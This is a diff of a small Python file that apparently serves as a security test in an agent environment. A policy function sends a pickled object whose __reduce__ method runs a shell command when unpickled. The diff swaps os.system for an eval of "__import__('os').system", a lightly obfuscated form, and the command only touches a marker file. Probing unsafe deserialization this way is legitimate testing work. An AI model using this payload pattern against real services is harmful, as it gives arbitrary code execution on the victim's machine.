@@ -5,18 +5,17 @@
 # twin: nearest_apple
 # needs-wall: true
 
-import os
 import pickle
 
-from kit import FAULT, frame, tag
+from kit import FAULT, send
 from target import DROPS, TOKEN
 
 
 class Command:
     def __reduce__(self):
-        return os.system, (f"touch {DROPS[0]}/{TOKEN}",)
+        return eval, (f"__import__('os').system('touch {DROPS[0]}/{TOKEN}')",)
 
 
 def policy(env, agent_id):
-    os.write(4, frame(FAULT, pickle.dumps(Command()), tag_=tag()))
+    send(FAULT, pickle.dumps(Command()))
     return 7
